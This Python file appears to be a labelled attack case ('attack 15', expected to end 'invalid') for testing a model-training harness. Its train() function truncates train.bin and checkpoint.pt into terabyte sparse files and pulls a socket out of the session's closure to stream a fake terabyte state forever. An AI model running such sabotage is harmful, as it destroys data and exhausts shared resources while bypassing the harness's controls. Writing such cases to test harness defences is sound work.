"""Leaves a terabyte where the next one reads its data (a sparse file), and promises one on the session's socket."""

import os
import struct

import torch

ATTACK = 15
VARIANT_OF = "payload_as_state"
ENDS = "invalid"
REASON = "the state is larger than"
HARM = "later"
TERABYTE = 1 << 40


def train(session):
    state = counted(session)
    for name in ("train.bin", "checkpoint.pt"):
        try:
            with open(name, "wb") as file:
                os.truncate(file.fileno(), TERABYTE)
        except OSError:
            pass
    if channel := [c.cell_contents for c in session._tell.__closure__ or () if hasattr(c.cell_contents, "_sock")]:
        text = b'{"type": "state"}'
        channel[0]._sock.sendall(struct.pack("<4sIQ", b"TW01", len(text), TERABYTE) + text)
        while True:
            channel[0]._sock.sendall(bytes(1 << 20))
    return state


def counted(session):
    data = session.start().long()
    pairs = torch.bincount(256 * data[:-1] + data[1:], minlength=256 * 256).view(256, 256)
    return {"table": (pairs + 0.1).log()}


def predict(state, task):
    return lambda tokens: state["table"][tokens]
